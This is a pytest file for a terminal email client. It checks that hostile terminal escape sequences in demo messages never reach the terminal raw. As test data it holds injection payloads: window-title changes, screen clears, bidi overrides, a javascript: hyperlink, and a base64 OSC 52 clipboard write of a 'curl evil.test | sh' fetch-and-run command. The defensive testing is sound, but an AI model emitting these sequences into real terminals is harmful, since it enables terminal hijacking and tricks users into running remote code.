"""End to end: the hostile demo conversation, read in the real app on a pty, never drives it.

The app runs as a child process (``python -m lemtui --demo ctc_HostileContent001``) on a
120×40 pseudo-terminal; keys open each of the three hostile messages, unfold their quotes and
scroll; every byte the app writes is kept and searched for the payloads of
`lemtui.demo.data._hostile` as they would reach a terminal if a body, subject, name or
attachment were printed unfiltered. Textual's own control sequences are allowed; only these
payloads, C1 controls, bidi controls, non-web OSC 8 targets and clipboard writes are not.

`test_the_checks_catch_a_raw_payload` runs the same harness on a tiny script that prints the
payloads raw, so a check that cannot fail would show up there.
"""

from __future__ import annotations

import os
import re
import sys
from pathlib import Path

import pytest

from tests.support.pty import PtyProcess

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pty")

ROWS, COLS = 40, 120
TOTAL_BUDGET = 20.0  # seconds for one whole session, start to exit
QUIET = 0.25  # a key's effect is done when the output has been quiet this long

# The hostile demo's sequences, as they would be written if its text reached the terminal
# raw (entities decoded as a browser would). Each carries some of its neighbouring text, so
# Textual's own identical sequences (a reset "\x1b[0m") cannot match.
PAYLOADS: tuple[bytes, ...] = tuple(
    s.encode("utf-8")
    for s in (
        "\x1b]0;pwned\x07",  # OSC 0 title, from the body (&#27;]0;pwned&#7;) and From address
        "\x1b[2J\x1b[H Screen",  # clear screen + home, body
        "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwudGVzdC94IHwgc2g=",  # OSC 52 clipboard write
        "\x1b[31mred\x1b[0m",  # CSI colours, from entities and from the LinkedIn message
        "\x1b]8;;https://evil.test/\x1b\\harmless",  # raw OSC 8 hyperlink
        "\x1b[5mADMIN",  # blink, sender name
        "report[/].pdf\x1b[2J",  # clear screen, attachment name
        "\x1b[2J\u202egnp",  # clear screen + RLO, subject
        "readme\x07",  # bell, attachment name
        "carriage\rreturn",  # bare CR, LinkedIn message
        "\x00nul",
        "\x7fdel",
    )
)
TITLE_RE = re.compile(rb"\x1b\][012];[^\x07\x1b]*pwned")
OSC52_RE = re.compile(rb"\x1b\]52;")
OSC8_RE = re.compile(rb"\x1b\]8;[^;\x07\x1b]*;([^\x07\x1b]*)")
C1_OR_BIDI_RE = re.compile("[\x80-\x9f\u202a-\u202e\u2066-\u2069]")
ESCAPE_RE = re.compile(
    rb"\x1b\[[0-9;?<>=!]*[ -/]*[@-~]"  # CSI
    rb"|\x1b[\]P_^][^\x07\x1b]*(?:\x07|\x1b\\)"  # OSC, DCS, APC, PM
    rb"|\x1b[()*+][0-9A-Za-z]|\x1b[=>78MDEc]"
)
WEB_TARGET_RE = re.compile(rb"(?:https?|mailto):", re.IGNORECASE)


def visible(output: bytes) -> str:
    """The output with control sequences removed: the text as written, in order."""
    return ESCAPE_RE.sub(b"", output).decode("utf-8", "replace")


def findings(output: bytes) -> list[str]:
    """Every way the output shows a hostile payload reaching the terminal (empty: none)."""
    found = [f"raw payload {p!r}" for p in PAYLOADS if p in output]
    if TITLE_RE.search(output):
        found.append("OSC 0/1/2 window title containing 'pwned'")
    if OSC52_RE.search(output):
        found.append("OSC 52 clipboard write")
    for m in OSC8_RE.finditer(output):
        if m.group(1) and not WEB_TARGET_RE.match(m.group(1)):
            found.append(f"OSC 8 hyperlink to {m.group(1)[:60]!r}")
    try:
        text = output.decode("utf-8")
    except UnicodeDecodeError as error:  # a raw C1 byte (\x9b CSI, \x9d OSC) is invalid UTF-8
        found.append(f"output is not UTF-8: {error}")
        text = output.decode("utf-8", "replace")
    for char in C1_OR_BIDI_RE.findall(text):
        found.append(f"control character U+{ord(char):04X} in the output")
    if "Traceback" in visible(output):
        found.append("a Python traceback")
    return found


def child_env(tmp_path: Path) -> dict[str, str]:
    env = dict(os.environ)
    for name in ("LEMLIST_API_KEY", "LEMLIST_BASE_URL", "LEMLIST_USER_ID", "NO_COLOR", "TEXTUAL"):
        env.pop(name, None)
    env.update(
        {
            "LEMTUI_CONFIG": str(tmp_path / "no-such-config.toml"),
            "XDG_STATE_HOME": str(tmp_path / "state"),
            "XDG_CONFIG_HOME": str(tmp_path / "config"),
            "HOME": str(tmp_path),
            "TERM": "xterm-256color",
            "COLUMNS": str(COLS),
            "LINES": str(ROWS),
            "PYTHONDONTWRITEBYTECODE": "1",
        }
    )
    return env


ROOT = Path(__file__).resolve().parent.parent.parent
# Enter reads the highlighted message, z unfolds its quotes, Tab goes back to the list, j moves
# to the next message; G and k scroll the end and back; q quits.
KEYS = [b"j", b"k", b"\r", b"z", b"G", b"\t", b"j", b"\r", b"z", b"G", b"\t", b"j", b"\r", b"z"]
KEYS += [b"G", b"k", b"\t"]


def test_hostile_conversation_never_reaches_the_terminal(tmp_path: Path) -> None:
    argv = [sys.executable, "-m", "lemtui", "--demo", "ctc_HostileContent001"]
    term = PtyProcess(
        argv, env=child_env(tmp_path), cols=COLS, rows=ROWS, cwd=ROOT, budget=TOTAL_BUDGET
    )
    try:
        shown = term.wait_for_text("all 3 messages loaded", 12.0) is not None
        term.settle(QUIET, 3.0)
        for key in KEYS if shown else []:
            term.press(key, QUIET)
        term.press(b"q", QUIET)
    finally:
        code = term.finish()
    output = bytes(term.output)
    text = visible(output)
    assert shown, f"the conversation never showed; last output: {text[-2000:]!r}"
    assert code == 0, f"exit status {code}; last output: {text[-2000:]!r}"
    # Each of the three hostile messages was opened and drawn.
    # The Rich markup in the subject and link text is shown as text: the app did not quit.
    for marker in ("Hello", "plain text", "A" * 60, "[@click=app.quit]y[/]", "[@click=app.quit]"):
        assert marker in text, f"{marker!r} was never shown"
    assert findings(output) == []


PAYLOAD_SCRIPT = """
import sys, time
out = sys.stdout.buffer
out.write(b"ordinary text\\r\\n")
out.write(sys.argv[1].encode("utf-8", "surrogateescape").decode("unicode_escape").encode("latin-1"))
out.write(b"\\r\\n[@click=app.quit]\\r\\n")
out.flush()
"""


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("\\x1b]0;pwned\\x07", "window title"),
        ("\\x1b]2;pwned\\x1b\\\\", "window title"),
        ("\\x1b]52;c;QUFB\\x07", "OSC 52"),
        ("\\x1b]8;;javascript:alert(1)\\x1b\\\\x\\x1b]8;;\\x1b\\\\", "OSC 8"),
        ("\\x1b[2J\\x1b[H Screen", "raw payload"),
        ("\\x9b31m", "not UTF-8"),
        ("\\xc2\\x9d", "U+009D"),
        ("\\xe2\\x80\\xae", "U+202E"),
    ],
)
def test_the_checks_catch_a_raw_payload(tmp_path: Path, payload: str, expected: str) -> None:
    """The harness and checks above, on a script that writes the payload as is."""
    term = PtyProcess(
        [sys.executable, "-c", PAYLOAD_SCRIPT, payload],
        env=child_env(tmp_path),
        cols=COLS,
        rows=ROWS,
        cwd=ROOT,
        budget=TOTAL_BUDGET,
    )
    try:
        assert term.wait_for_text("[@click=app.quit]", 10.0) is not None
    finally:
        assert term.finish() == 0
    found = findings(bytes(term.output))
    assert any(expected in item for item in found), found
